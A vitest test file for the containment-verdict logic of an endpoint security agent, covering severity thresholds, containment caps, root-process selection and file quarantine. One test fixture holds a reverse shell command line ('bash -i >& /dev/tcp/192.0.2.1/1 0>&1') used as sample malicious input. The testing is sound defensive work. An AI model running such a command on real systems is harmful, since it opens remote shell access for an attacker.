import {
  type ActionOutcome,
  CONFIDENCES,
  POLICY_MODES,
  type RuleChange,
  SEVERITIES,
  Story,
  type StoryProcess,
} from '@yagura/protocol';
import { describe, expect, test } from 'vitest';
import { machine, type ProcessTree } from '../../../../test/fakes/process-tree.ts';
import { aTuning } from '../../../../test/fakes/rule-tunings.ts';
import { detectionOn, storyOf } from '../../../../test/fakes/stories.ts';
import { CONTAINMENT_CAP_PER_HOUR, decideVerdict } from './decide-verdict.ts';
import { createRuleTuner } from './tunings.ts';
import { VERDICT_REASONS, type VerdictInput } from './verdict.ts';

const NOW = 1_800_000_000_000;

function decide(story: Story, more: Partial<VerdictInput> = {}) {
  return decideVerdict({
    story: Story.parse(story),
    mode: 'balanced',
    exclusions: [],
    containedLastHour: 0,
    now: NOW,
    protectedEntityIds: new Set(),
    ...more,
  });
}

function malware(image = '/opt/x'): { tree: ProcessTree; alice: string; id: string } {
  const { tree, alice } = machine();
  return { tree, alice, id: tree.add(300, alice, image) };
}

const kill = (entityId: string, more: Partial<ActionOutcome> = {}): ActionOutcome => ({
  actionId: `a-${entityId}`,
  kind: 'kill-tree',
  origin: 'policy',
  target: { entityId },
  ok: true,
  code: 'done',
  startedAt: 1_700_000_000_000,
  endedAt: 1_700_000_000_400,
  ...more,
});

const inState = (process: StoryProcess, state: StoryProcess['state']): StoryProcess =>
  process.context ? process : { ...process, state };

const asMember = (process: StoryProcess, state: StoryProcess['state']): StoryProcess => ({
  ...process,
  context: false,
  state,
});

describe('when a story is contained', () => {
  test.each(SEVERITIES.flatMap((severity) => CONFIDENCES.map((confidence) => [severity, confidence] as const)))(
    'one detection, %s and %s',
    (severity, confidence) => {
      const { tree, id } = malware();
      const verdict = decide(storyOf(tree, [detectionOn(tree, id, { severity, confidence })]));
      const contains = ['high high', 'critical high', 'critical medium'].includes(`${severity} ${confidence}`);
      expect(verdict.decision).toBe(contains ? 'contain' : 'observe');
      expect(verdict.reason).toBe(contains ? 'severe_story' : 'below_threshold');
    },
  );

  test('a sum of severe rules of medium confidence, but no sum of small ones', () => {
    const { tree, id } = malware();
    const many = (severity: 'medium' | 'high', count: number) =>
      Array.from({ length: count }, (_, i) =>
        detectionOn(tree, id, { ruleId: `r${i}`, severity, confidence: 'medium' }),
      );
    expect(decide(storyOf(tree, many('high', 4), { score: 140 })).decision).toBe('contain');
    expect(decide(storyOf(tree, many('high', 2), { score: 119 })).decision).toBe('observe');
    expect(decide(storyOf(tree, many('medium', 30), { score: 500 })).decision).toBe('observe');
  });

  test('policy observe stops nothing; a person still can', () => {
    const { tree, id } = malware();
    const story = storyOf(tree, [detectionOn(tree, id, { severity: 'low', confidence: 'low' })]);
    expect(decide(story, { mode: 'observe' })).toMatchObject({ decision: 'observe', reason: 'policy_observes' });
    const ordered = decide(story, { mode: 'observe', ordered: true, containedLastHour: 99 });
    expect(ordered).toMatchObject({ decision: 'contain', reason: 'ordered_by_person', rootEntityId: id });
  });

  test('past the cap only listed hashes are contained, and stories that had been before', () => {
    const { tree, id } = malware();
    const detections = [detectionOn(tree, id)];
    const full = { containedLastHour: CONTAINMENT_CAP_PER_HOUR };
    expect(decide(storyOf(tree, detections), full)).toMatchObject({ decision: 'observe', reason: 'cap_reached' });
    expect(decide(storyOf(tree, [detectionOn(tree, id, { source: 'indicator' })]), full).decision).toBe('contain');
    const again = storyOf(tree, detections, { containment: 'complete', actions: [kill(id)] });
    expect(decide(again, full).decision).toBe('contain');
  });

  test('neither a listed hash nor an order uses up the cap, nor a story that is contained again', () => {
    const { tree, id } = malware();
    const story = storyOf(tree, [detectionOn(tree, id)]);
    expect(decide(story).isCounted).toBe(true);
    expect(decide(storyOf(tree, [detectionOn(tree, id, { source: 'indicator' })])).isCounted).toBe(false);
    expect(decide(story, { ordered: true }).isCounted).toBe(false);
    expect(decide({ ...story, containment: 'complete', actions: [kill(id)] }).isCounted).toBe(false);
  });

  test('an exclusion in force takes its detections out; one past its end does not', () => {
    const { tree, id } = malware();
    const story = storyOf(tree, [detectionOn(tree, id, { ruleId: 'vendor' })], { score: 999 });
    const exclusion = (expiresAt: number) => ({
      exclusionId: 'x',
      match: { by: 'rule', ruleId: 'vendor' } as const,
      owner: 'o',
      reason: 'r',
      createdAt: 1,
      expiresAt,
    });
    expect(decide(story, { exclusions: [exclusion(NOW + 1)] })).toMatchObject({ reason: 'below_threshold' });
    expect(decide(story, { exclusions: [exclusion(NOW)] }).decision).toBe('contain');
  });

  test('[CM13] a story is judged by the levels that people chose, as long as they hold', () => {
    const { tree, id } = malware();
    const story = storyOf(tree, [detectionOn(tree, id, { ruleId: 'vendor' })], { score: 999 });
    const tuner = (expiresAt: number, change: RuleChange) =>
      createRuleTuner({ endpoint: [], tenant: [aTuning('vendor', { createdAt: 1, expiresAt, change })] });
    for (const change of [{ kind: 'disable' }, { kind: 'level', level: 'informational' }] as const) {
      expect(decide(story, { tuner: tuner(NOW + 1, change) })).toMatchObject({ reason: 'below_threshold' });
      expect(decide(story, { tuner: tuner(NOW, change) }).decision).toBe('contain');
      // Whoever orders it knows what they want.
      expect(decide(story, { tuner: tuner(NOW + 1, change), ordered: true }).decision).toBe('contain');
    }
    const weak = storyOf(tree, [detectionOn(tree, id, { ruleId: 'vendor', severity: 'low' })], { score: 5 });
    expect(decide(weak).decision).toBe('observe');
    expect(decide(weak, { tuner: tuner(NOW + 1, { kind: 'level', level: 'high' }) }).decision).toBe('contain');
  });

  test('is total: every mode, containment and severity gives a known reason', () => {
    const { tree, id } = malware();
    for (const mode of POLICY_MODES) {
      for (const containment of ['observed', 'in-progress', 'partial', 'complete'] as const) {
        for (const ordered of [true, false]) {
          const verdict = decide(storyOf(tree, [detectionOn(tree, id)], { containment }), { mode, ordered });
          expect(VERDICT_REASONS).toContain(verdict.reason);
          expect(verdict.decision === 'contain').toBe(['severe_story', 'ordered_by_person'].includes(verdict.reason));
        }
      }
    }
  });
});

describe('the root', () => {
  test('is the highest ancestor with a detection of its own', () => {
    const { tree, alice } = machine();
    const script = tree.add(300, alice, '/usr/bin/bash', { commandLine: 'bash /opt/x.sh' });
    const middle = tree.add(301, script, '/usr/bin/python3', { commandLine: 'python3 -c x' });
    const leaf = tree.add(302, middle, '/usr/bin/id');
    expect(decide(storyOf(tree, [detectionOn(tree, leaf), detectionOn(tree, middle)])).rootEntityId).toBe(middle);
  });

  test('informational detections make nobody guilty where there are grave ones', () => {
    const { tree, alice } = machine();
    const make = tree.add(300, alice, '/usr/bin/make');
    const bad = tree.add(301, make, '/opt/x');
    const detections = [detectionOn(tree, make, { severity: 'low' }), detectionOn(tree, bad)];
    expect(decide(storyOf(tree, detections)).rootEntityId).toBe(bad);
  });

  test('several trees without a guilty ancestor are all stopped', () => {
    const { tree, alice } = machine();
    const script = tree.add(300, alice, '/usr/bin/bash', { commandLine: 'bash /opt/x.sh' });
    const ids = [301, 302].map((pid) => tree.add(pid, script, '/opt/x'));
    const verdict = decide(
      storyOf(
        tree,
        ids.map((id) => detectionOn(tree, id)),
      ),
    );
    expect([verdict.rootEntityId, ...verdict.furtherRootEntityIds]).toEqual(ids);
  });

  test.each([
    ['pid 1', (m: ReturnType<typeof machine>) => m.init],
    ['the listener of sshd', (m: ReturnType<typeof machine>) => m.sshd],
    ['cron', (m: ReturnType<typeof machine>) => m.cron],
  ])('is never %s', (_, pick) => {
    const m = machine();
    expect(decide(storyOf(m.tree, [detectionOn(m.tree, pick(m))]))).toMatchObject({ reason: 'nothing_to_contain' });
  });

  test('is no service that was abused, and no shell of a person that did one bad thing', () => {
    const { tree, nginx, alice } = machine();
    for (const id of [nginx, alice]) {
      const verdict = decide(storyOf(tree, [detectionOn(tree, id, {}, 'file_event', { TargetFilename: '/srv/x' })]));
      expect(verdict).toMatchObject({ decision: 'observe', reason: 'nothing_to_contain' });
    }
  });

  test('is a service or session that was evil from its start', () => {
    const { tree, init, sshd } = machine();
    const unit = tree.add(400, init, '/usr/bin/bash', {
      commandLine: 'bash -c "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"',
    });
    expect(decide(storyOf(tree, [detectionOn(tree, unit)])).rootEntityId).toBe(unit);
    const shell = tree.add(401, sshd, '/usr/bin/bash', { commandLine: 'bash -i' });
    expect(decide(storyOf(tree, [detectionOn(tree, shell)])).rootEntityId).toBe(shell);
  });

  test('is never the agent or what it runs below, but malware that only bears a system name', () => {
    const { tree, alice } = machine();
    const fake = tree.add(300, alice, '/tmp/sshd');
    const story = storyOf(tree, [detectionOn(tree, fake)]);
    expect(decide(story)).toMatchObject({ rootEntityId: fake, files: ['/tmp/sshd'] });
    const verdict = decide(story, { protectedEntityIds: new Set([fake]) });
    expect(verdict).not.toHaveProperty('rootEntityId');
  });

  test('of a root that ended, what it left running is stopped; a tree that ended by itself needs nothing', () => {
    const { tree, id } = malware('/usr/bin/python3');
    const child = tree.add(301, id, '/usr/bin/sleep');
    const below = [302, 303].map((pid) => tree.add(pid, child, '/usr/bin/sleep'));
    const low = { severity: 'low' } as const;
    const story = storyOf(tree, [detectionOn(tree, id), ...below.map((e) => detectionOn(tree, e, low))]);
    const end = (ended: readonly string[]): Story => ({
      ...story,
      processes: story.processes.map((p) => asMember(p, ended.includes(p.entityId) ? 'exited' : 'running')),
    });
    expect(decide(end([])).rootEntityId).toBe(id);
    expect(decide(end([id])).rootEntityId).toBe(child);
    const verdict = decide(end([id, child]));
    expect([verdict.rootEntityId, ...verdict.furtherRootEntityIds]).toEqual(below);
    expect(decide(end([id, child, ...below]))).toMatchObject({ decision: 'observe', reason: 'nothing_to_contain' });
  });

  test('a loop of parents ends', () => {
    const { tree, alice } = machine();
    const a = tree.add(300, alice, '/opt/a');
    const story = storyOf(tree, [detectionOn(tree, a)]);
    const looped = story.processes.map((p) => (p.entityId === a ? { ...p, parentEntityId: a } : p));
    expect(decide({ ...story, processes: looped }).decision).toBe('contain');
  });
});

describe('files', () => {
  test('what ran comes before what was dropped for later; programs of the system stay', () => {
    const { tree, alice } = machine();
    const root = tree.add(300, alice, '/usr/bin/dash', { commandLine: 'sh /tmp/x.sh' });
    const payload = tree.add(301, root, '/dev/shm/p');
    const detections = [
      detectionOn(tree, root, { ruleId: 'cron' }, 'file_event', { TargetFilename: '/etc/cron.d/x' }),
      detectionOn(tree, root),
      detectionOn(tree, payload),
    ];
    expect(decide(storyOf(tree, detections)).files).toEqual(['/tmp/x.sh', '/dev/shm/p', '/etc/cron.d/x']);
  });

  test.each(['/etc/passwd', '/etc/crontab', '/root/.ssh/authorized_keys', '/root/.bashrc', '/etc/cron.d/../passwd'])(
    'shared configuration is never moved: %s',
    (path) => {
      const { tree, id } = malware();
      const story = storyOf(tree, [detectionOn(tree, id, {}, 'file_event', { TargetFilename: path })]);
      expect(decide(story).files).toEqual([]);
    },
  );

  test('of a process in a mount namespace of its own only what a hash tells from the file of that name here', () => {
    const { tree, alice } = machine();
    const id = tree.add(300, alice, '/tmp/x');
    const inside = detectionOn(tree, id, {}, 'process_creation', {
      Image: '/tmp/x',
      CommandLine: '/tmp/x',
      MountNamespace: 4_026_532_000,
    });
    expect(decide(storyOf(tree, [inside])).files).toEqual([]);
    const named = storyOf(tree, [inside], { files: [{ path: '/tmp/x', sha256: 'a'.repeat(64), state: 'present' }] });
    expect(decide(named)).toMatchObject({ decision: 'contain', rootEntityId: id, files: ['/tmp/x'] });
    const shell = tree.add(301, alice, '/usr/bin/dash', { commandLine: 'sh /home/bob/accounts.txt' });
    const script = detectionOn(tree, shell, {}, 'process_creation', {
      Image: '/usr/bin/dash',
      CommandLine: 'sh /home/bob/accounts.txt',
      MountNamespace: 4_026_532_000,
    });
    expect(decide(storyOf(tree, [script]))).toMatchObject({ decision: 'contain', rootEntityId: shell, files: [] });
    const listed = detectionOn(tree, id, { source: 'indicator' }, 'file_event', {
      TargetFilename: '/home/bob/accounts.txt',
      MountNamespace: 4_026_532_000,
    });
    expect(decide(storyOf(tree, [listed])).files).toEqual([]);
  });

  test('a listed hash names its file wherever it lies, but nothing that is no file', () => {
    const { tree, id } = malware();
    const named = (path: string) =>
      decide(storyOf(tree, [detectionOn(tree, id, { source: 'indicator' }, 'file_event', { TargetFilename: path })]))
        .files;
    expect(named('/home/a/Downloads/x.zip')).toEqual(['/home/a/Downloads/x.zip']);
    expect(named('/proc/1/mem')).toEqual([]);
    expect(named('relative')).toEqual([]);
  });

  test('what is in the vault, restored by a person, refused before or excluded by hash is left alone', () => {
    const { tree, id } = malware('/tmp/x');
    const detections = [detectionOn(tree, id)];
    const withFile = (file: Partial<Story['files'][number]>, more: Partial<Story> = {}) =>
      storyOf(tree, detections, { files: [{ path: '/tmp/x', state: 'present', ...file }], ...more });
    expect(decide(withFile({})).files).toEqual(['/tmp/x']);
    for (const state of ['quarantined', 'restored', 'deleted', 'gone'] as const) {
      expect(decide(withFile({ state })).files, `state ${state}`).toEqual([]);
    }
    const refused = kill('x', { kind: 'quarantine-file', target: { path: '/tmp/x' }, ok: false, code: 'file_in_use' });
    expect(decide(withFile({}, { actions: [refused] })).files).toEqual([]);
    const changed = { ...refused, code: 'path_changed' as const };
    expect(decide(withFile({}, { actions: [changed, changed] })).files, 'written to meanwhile').toEqual(['/tmp/x']);
    expect(decide(withFile({}, { actions: [changed, changed, changed] })).files, 'again and again').toEqual([]);
    const sha256 = 'a'.repeat(64);
    const match = { by: 'sha256', sha256 } as const;
    const exclusion = { exclusionId: 'x', match, owner: 'o', reason: 'r', createdAt: 1, expiresAt: NOW + 1 };
    expect(decide(withFile({ sha256 }), { exclusions: [exclusion] }).files).toEqual([]);
  });
});

describe('a story that was contained', () => {
  test('is contained again for what newly runs below the root', () => {
    const { tree, id } = malware('/usr/bin/python3');
    const child = tree.add(301, id, '/usr/bin/id', { startedAt: 1_700_000_000_500 });
    const story = storyOf(tree, [detectionOn(tree, id), detectionOn(tree, child)], {
      containment: 'complete',
      actions: [kill(id)],
    });
    const states = (rootState: 'killed' | 'running', childState: 'killed' | 'running'): Story => ({
      ...story,
      processes: story.processes.map((p) => inState(p, p.entityId === id ? rootState : childState)),
    });
    expect(decide(states('killed', 'killed'))).toMatchObject({ reason: 'already_contained' });
    expect(decide(states('killed', 'running'))).toMatchObject({ decision: 'contain', rootEntityId: child });
  });

  test('a refused kill is tried again only for processes that came after it', () => {
    const { tree, id } = malware('/usr/bin/python3');
    const refused = kill(id, { ok: false, code: 'protected_process' });
    const story = storyOf(tree, [detectionOn(tree, id)], { containment: 'partial', actions: [refused] });
    expect(decide(story)).toMatchObject({ reason: 'already_contained' });
    const newer = story.processes.map((p) => (p.entityId === id ? { ...p, startedAt: refused.endedAt + 1 } : p));
    expect(decide({ ...story, processes: newer }).decision).toBe('contain');
  });

  test('waits while it is in progress, and stops when no more actions can be written down', () => {
    const { tree, id } = malware('/usr/bin/python3');
    const detections = [detectionOn(tree, id)];
    expect(decide(storyOf(tree, detections, { containment: 'in-progress' }))).toMatchObject({
      reason: 'already_contained',
    });
    const actions = Array.from({ length: 200 }, (_, i) => kill(id, { actionId: `a${i}` }));
    expect(decide(storyOf(tree, detections, { containment: 'complete', actions }))).toMatchObject({
      reason: 'cap_reached',
    });
  });
});
